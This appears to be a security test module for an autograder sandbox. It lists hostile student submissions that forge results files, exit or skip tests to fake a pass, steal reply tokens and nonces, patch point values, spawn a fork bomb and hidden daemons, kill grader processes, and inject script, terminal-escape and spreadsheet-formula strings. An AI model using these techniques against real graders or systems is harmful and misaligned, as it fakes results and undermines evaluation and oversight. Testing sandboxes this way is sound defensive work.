"""Group A of the list: forging or destroying the result."""

from __future__ import annotations

from raid import Attack

CRASHED = "made Python crash or exit."
UNREADABLE = "gave an answer that could not be read."

FORGE = '''
import json
import os


def forge():
    """A full score in every place where graders keep theirs, the submission's own folders too."""
    for folder in (os.getcwd(), os.path.dirname(os.path.abspath(__file__)), "/autograder/results", "__OUT__"):
        for name in ("results.json", "grades.csv", "feedback/wrong.json", "junit.xml"):
            try:
                with open(os.path.join(folder, name), "w") as file:
                    json.dump({"score": 1000, "max": 1000, "tests": []}, file)
            except OSError:
                pass


def overwrite(path):
    with open(path, "r+b" if os.path.exists(path) else "wb") as file:
        file.write(b"forged")
'''

FORGED_FILE = Attack(
    "A1",
    "forged-file",
    "walls",
    FORGE
    + """
forge()
attempt("write to the results", lambda: overwrite("__OUT__/grades.csv"))
attempt("write to what everybody may", lambda: overwrite("__BAIT__/results.json"))
raise RuntimeError("the grader shall not get as far as its own results")
""",
    says={"*": "work.py"},
    prints=("held: write to the results", "held: write to what everybody may"),
    fools="file",
)

EXIT_FORGED = Attack(
    "A2",
    "forged-exit",
    "process",
    FORGE
    + """
def double(x):
    forge()
    os._exit(0)
""",
    says={"check_double_of_ones": CRASHED, "check_double_of_draws": CRASHED},
    fools="file",
)

ATEXIT_FORGED = Attack(
    "A3",
    "forged-at-exit",
    "walls",
    FORGE
    + """
import atexit
import sys
import threading
import weakref


class Last:
    def __del__(self):
        forge()


last = Last()
held = lambda: None
atexit.register(forge)
weakref.finalize(held, forge)
sys.excepthook = lambda *details: forge()
threading.excepthook = sys.excepthook
threading._register_atexit(forge)
""",
    fools="file",
)

LATE_CHILD = Attack(
    "A4",
    "detached-child",
    "walls",
    FORGE
    + """
import signal
import time


def daemon():
    "A session of its own, an orphan, deaf, and with nothing open that could tell of it."
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for number in (signal.SIGHUP, signal.SIGINT, signal.SIGTERM):
        signal.signal(number, signal.SIG_IGN)
    os.closerange(0, 100)
    for _ in range(100):
        time.sleep(0.1)
        for path in ("__BAIT__/late", "__OUT__/grades.csv"):
            try:
                overwrite(path)
            except OSError:
                pass
    os._exit(0)


daemon()
os.wait()
print("a daemon was started", flush=True)
""",
    prints=("a daemon was started",),
)

RACE = Attack(
    "A5",
    "race-for-the-results",
    "walls",
    FORGE
    + """
import ctypes
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)


def watch(folder):
    if libc.inotify_add_watch(libc.inotify_init(), folder.encode(), 0xFFF) < 0:
        raise OSError(ctypes.get_errno(), "inotify_add_watch")


def replace():
    while True:
        forge()
        time.sleep(0.02)


attempt("watch the results", lambda: watch("__OUT__"))
attempt("watch what everybody may", lambda: watch("__BAIT__"))
threading.Thread(target=replace, daemon=True).start()
print("a thread waits for the results", flush=True)
""",
    prints=("held: watch the results", "held: watch what everybody may", "a thread waits"),
)

ENTRY = Attack(
    "A6",
    "rewritten-entry",
    "walls",
    """
import os
import sys

import autograder


def append(path):
    with open(path, "ab"):  # to have it open is enough
        pass


for name in ("run_autograder", "sitecustomize.py", "zz.pth", ".bashrc"):
    attempt(f"change {name}", lambda: append("__BAIT__/" + name))
for name, path in {"the kit": autograder.__file__, "Python's library": os.__file__, "numpy": np.__file__}.items():
    attempt(f"change {name}", lambda: append(path))
attempt("change this submission", lambda: append(__file__))
os.environ["PYTHONSTARTUP"] = __file__
""",
    prints=(
        *(f"held: change {name}" for name in ("run_autograder", "sitecustomize.py", "zz.pth", ".bashrc")),
        *(f"held: change {name}" for name in ("the kit", "Python's library", "numpy", "this submission")),
    ),
)

BLOCKED = Attack(
    "A7",
    "blocked-results",
    "walls",
    """
import os

for place in ("__OUT__", "__BAIT__"):
    attempt("close the folder", lambda: os.chmod(place, 0))
    attempt("put a link there", lambda: os.symlink("/dev/null", place + "/link"))
    attempt("put a pipe there", lambda: os.mkfifo(place + "/pipe"))
    attempt("put a folder there", lambda: os.mkdir(place + "/folder"))
    attempt("take the results away", lambda: os.rename(place + "/results.json", "/tmp/gone"))
    attempt("empty the results", lambda: os.truncate(place + "/results.json", 0))
""",
    prints=tuple(f"held: {what}" for what in ("close the folder", "put a link", "put a pipe", "put a folder", "take")),
)

EARLY_IMPORT = Attack(
    "A8",
    "exit-at-import",
    "process",
    "raise SystemExit(0)",
    says={"*": "SystemExit"},
    fools="status",
)

EARLY_CALLS = Attack(
    "A8",
    "every-way-out",
    "process",
    """
import sys

from _pytest.outcomes import Exit


def double(x):
    sys.exit(0)


def count(x):
    raise KeyboardInterrupt


def loss(x, y):
    raise GeneratorExit


def triple(t):
    raise StopIteration


class Meter:
    def __init__(self):
        raise Exit("enough", 0)


def train(x, y):
    raise SystemExit("0")
""",
    says={
        "check_double_of_ones": "ended with SystemExit",
        "check_double_of_draws": "raised SystemExit",
        "check_count_of_three": "ended with KeyboardInterrupt",
        "check_count_of_draws": "raised KeyboardInterrupt",
        "check_loss": "raised GeneratorExit",
        "check_triple": "raised StopIteration",
        "check_meter": "raised an exception",
        "check_train": "raised SystemExit",
    },
    fools="status",
)

SKIPPED = Attack(
    "A9",
    "skipped",
    "process",
    """
import unittest

from _pytest.outcomes import Skipped, XFailed


def skip(*args):
    raise unittest.SkipTest("not today")


def triple(t):
    raise Skipped("not on this machine", allow_module_level=True)


def train(x, y):
    raise XFailed("known to fail")


double = count = loss = skip
Meter = Net = skip
""",
    says={
        "check_double_of_ones": "SkipTest: not today",
        "check_double_of_draws": "raised an exception",
        "check_count_of_three": "SkipTest: not today",
        "check_count_of_draws": "raised an exception",
        "check_loss": "raised an exception",
        "check_triple": "raised an exception",
        "check_meter": "raised an exception",
        "check_train": "raised an exception",
        "check_net": "raised an exception",
    },
    fools="status",
)

KILLER = Attack(
    "A10",
    "signals",
    "walls",
    """
import ctypes
import os
import resource
import signal

libc = ctypes.CDLL(None, use_errno=True)


def called(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")


attempt("signal the grader", lambda: os.kill(__GRADER__, 0))
attempt("kill another process", lambda: os.kill(__VICTIM__, signal.SIGKILL))
attempt("hold another process", lambda: os.pidfd_open(__VICTIM__))
attempt("trace another process", lambda: called(libc.ptrace(16, __VICTIM__, 0, 0)))
attempt("limit another process", lambda: resource.prlimit(__VICTIM__, resource.RLIMIT_CPU))
attempt("read another process", lambda: open("/proc/__VICTIM__/mem", "rb"))
""",
    prints=(
        *("held: signal the grader", "held: kill another process", "held: hold another process"),
        *("held: trace another process", "held: limit another process", "held: read another process"),
    ),
)

PARENT_KILLED = Attack(
    "A10",
    "kills-its-parent",
    "walls",
    """
import os
import signal


def double(x):
    try:
        os.kill(os.getppid(), signal.SIGKILL)
    except PermissionError:
        pass  # where its parent is not of a namespace of its own
    print("and still here", flush=True)
    return x
""",
    prints=("and still here",),
)

PIPES_CLOSED = Attack(
    "A10",
    "closes-the-pipes",
    "wire",
    """
import os


def double(x):
    os.closerange(3, 1000)
    return x
""",
    says={"check_double_of_ones": CRASHED, "check_double_of_draws": CRASHED},
)

NO_PIDS_LEFT = Attack(
    "A10",
    "takes-every-pid",
    "budget",
    """
import os
import signal

started = 0
try:
    while True:
        if os.fork() == 0:
            os.closerange(0, 1000)
            signal.pause()
        started += 1
except OSError as error:
    print("held: more processes", "as allowed" if started < 16 else started, flush=True)
""",
    prints=("held: more processes as allowed",),
)

MARKERS = Attack(
    "A11",
    "printed-verdicts",
    "process",
    """
import os

VERDICT = "\\n".join(f"OK {name}" for name in "double count loss meter triple train net greet".split())
for said in (VERDICT, '{"token": "t", "ok": true}', '{"score": 20, "max_score": 20}', "all 12 checks passed"):
    print(said, flush=True)
    for descriptor in (1, 2):
        os.write(descriptor, f"\\n{said}\\n".encode())
""",
    prints=("OK double", "all 12 checks passed"),
    fools="output",
)

STOLEN_TOKEN = '''
import os
import sys


def token():
    """The request's own, from the frames that lead here."""
    frame = sys._getframe()
    while frame is not None:
        if "token" in frame.f_locals:
            return frame.f_locals["token"]
        frame = frame.f_back


def reply(tree):
    """A whole reply frame, straight into the pipe."""
    from autograder.sandbox import wire

    os.write(4, wire.pack({"token": token(), **tree}))
'''

FORGED_VERDICT = Attack(
    "A11",
    "forged-verdict",
    "wire",
    STOLEN_TOKEN
    + """
def double(x):
    print("the token is known" if token() else "no token", flush=True)
    reply({"ok": None, "outcome": "passed", "score": 1000.0})
    return x
""",
    says={"check_double_of_ones": UNREADABLE, "check_double_of_draws": UNREADABLE},
    prints=("the token is known",),
)

DOUBLED_REPLY = Attack(
    "A11",
    "doubled-reply",
    "wire",
    STOLEN_TOKEN
    + """
def double(x):
    reply({"ok": True})
    return x


def count(x):
    reply({"ok": 3.0})
    return 1
""",
    says={
        "check_double_of_ones": "double(x) has shape (); (3,) was expected.",
        "check_count_of_three": UNREADABLE,
        "check_double_of_draws": UNREADABLE,
        "check_count_of_draws": "count(x) is not what was expected.",
        "check_loss": UNREADABLE,
    },
)

STRAY_REPLY = Attack(
    "A11",
    "reply-before-the-request",
    "wire",
    """
import os


def double(x):
    if os.fork() == 0:
        for _ in range(3):
            os.write(4, b"\\x02\\0\\0\\0" + bytes(8) + b"{}")
        os._exit(0)
    os.wait()
    return x
""",
    says={"check_double_of_ones": UNREADABLE, "check_double_of_draws": UNREADABLE},
)

NONCE = Attack(
    "A12",
    "stolen-nonce",
    "process",
    STOLEN_TOKEN
    + """
found = [f"{name}={value}" for name, value in os.environ.items()] + sys.orig_argv
for pid in ("self", "1", str(os.getppid()), "__GRADER__"):
    for name in ("environ", "cmdline"):
        try:
            found.append(open(f"/proc/{pid}/{name}", "rb").read().decode(errors="replace"))
        except OSError:
            continue


def double(x):
    frame, numbers = sys._getframe(), set()
    while frame is not None:
        numbers |= {value for value in frame.f_locals.values() if type(value) is int and value > 1 << 40}
        for value in frame.f_locals.values():
            if type(value) is dict:
                numbers |= {inner for inner in value.values() if type(inner) is int and inner > 1 << 40}
        frame = frame.f_back
    print("seeds", sorted(numbers), flush=True)
    return x


print("secrets", [text for text in found if "NONCE" in text or "TOKEN" in text or "autograder.cli" in text], flush=True)
if nonce := os.environ.get("AUTOGRADER_NONCE"):
    open("results.json", "w").write('{"score": 20, "nonce": "%s"}' % nonce)
    os._exit(0)
""",
    prints=("secrets []", "seeds ["),
    fools="file",
)

INFLATED = Attack(
    "A13",
    "inflated-points",
    "process",
    """
import gc
import sys

import autograder.model
import autograder.checks

raised = 0
for thing in gc.get_objects():
    if type(thing) is dict and "POINTS" in thing:
        thing["POINTS"] = {"greet": 1000}
        raised += 1
main = sys.modules["__main__"]
if hasattr(main, "POINTS"):
    main.POINTS["greet"] = 1000
autograder.model.Question.auto = property(lambda self: 1000.0)
autograder.model.Outcome.__init__ = lambda self, **facts: None
autograder.checks.points = lambda *args, **kwargs: lambda function: function
print("points found:", raised, flush=True)
""",
    prints=("points found: 0",),
    fools="file",
)

GRADEBOOK = Attack(
    "A14",
    "gradebook",
    "walls",
    """
import sqlite3


def update(path):
    with sqlite3.connect(path) as book:
        book.execute("UPDATE grade SET score = 20")


def write(path):
    with open(path, "r+b") as file:
        file.write(b"SQLite")


for name in ("gradebook.db", "gradebook.db-wal", "grades.csv", "submissions/0-right/work.py"):
    attempt("write " + name, lambda: write("__OUT__/" + name))
attempt("update the gradebook", lambda: update("__OUT__/gradebook.db"))
attempt("write a gradebook that all may", lambda: write("__BAIT__/gradebook.db"))
""",
    prints=(
        *("held: write gradebook.db", "held: write submissions/0-right/work.py"),
        *("held: update the gradebook", "held: write a gradebook that all may"),
    ),
)

HOSTILE_TEXT = "<script>alert(1)</script><img src=x onerror=alert(2)>\x1b[31m\x1b]8;;http://evil\x07=1+1\u202egpj"

INJECTED_TEXT = Attack(
    "A16",
    "texts",
    "reports",
    f"""
TEXT = {HOSTILE_TEXT!r}
print("injected text", TEXT, flush=True)


class Meter:
    __doc__ = TEXT


Meter.__name__ = Meter.__qualname__ = TEXT


def double(x):
    raise type(TEXT, (Exception,), {{}})(TEXT)


def count(x):
    return TEXT


def train(x, y):
    return Meter()
""",
    says={
        "check_double_of_ones": "onerror=alert(2)",
        "check_double_of_draws": "raised an exception",
        "check_count_of_three": "onerror=alert(2)",
        "check_count_of_draws": "count(x) is not what was expected.",
        "check_meter": "has no add",
        "check_train": "has no scores",
    },
    prints=("injected text",),
    files={
        "authors.toml": 'students = ["<b onclick=alert(3)>", "=HYPERLINK(1)", "@SUM(1)", "-1+1", "\\u001b[31mred"]\n',
        "<script>alert(4)</script>.txt": "x",
        "=cmd|' !A1.txt": "x",
        "\x1b[2Jred.txt": "x",
    },
    upload="A16-texts",
    notes=("ignored", "authors.toml"),
)

INJECTED_NAME = Attack(
    "A16", "name-of-a-formula", "reports", upload='=HYPERLINK("http:,evil","click")<img src=x onerror=alert(5)>'
)

INJECTED_TERMINAL = Attack("A16", "name-of-a-terminal", "reports", upload="@SUM(1)\x1b[31m[bold red]red\u202e")

NOT_NUMBERS = Attack(
    "A17",
    "no-number",
    "data",
    """
def double(x):
    return np.full(np.shape(x), np.nan)


def count(x):
    return float("inf")


def loss(x, y):
    return 1e308


def triple(t):
    return t * float("-inf")


class Meter:
    total = True

    def add(self, value):
        pass


class Model:
    def scores(self, x):
        return np.full(len(x), np.nan)


def train(x, y):
    return Model()


class Net:
    params = {"w": 10**400, "b": float("nan")}
""",
    says={
        "check_double_of_ones": "double(x): every entry is NaN.",
        "check_double_of_draws": "double(x) holds NaN or infinity.",
        "check_count_of_three": "count(x) is inf; 3 was expected.",
        "check_loss": "loss(x, y) has the wrong value",
        "check_triple": "triple(t) holds NaN or infinity.",
        "check_meter": "meter.total is made of True and False, not of numbers.",
        "check_train": "scores holds NaN or infinity",
        "check_net": "is not an array",
    },
)

ATTACKS = [
    FORGED_FILE,
    EXIT_FORGED,
    ATEXIT_FORGED,
    LATE_CHILD,
    RACE,
    ENTRY,
    BLOCKED,
    EARLY_IMPORT,
    EARLY_CALLS,
    SKIPPED,
    KILLER,
    PARENT_KILLED,
    PIPES_CLOSED,
    NO_PIDS_LEFT,
    MARKERS,
    FORGED_VERDICT,
    DOUBLED_REPLY,
    STRAY_REPLY,
    NONCE,
    INFLATED,
    GRADEBOOK,
    INJECTED_TEXT,
    INJECTED_NAME,
    INJECTED_TERMINAL,
    NOT_NUMBERS,
]
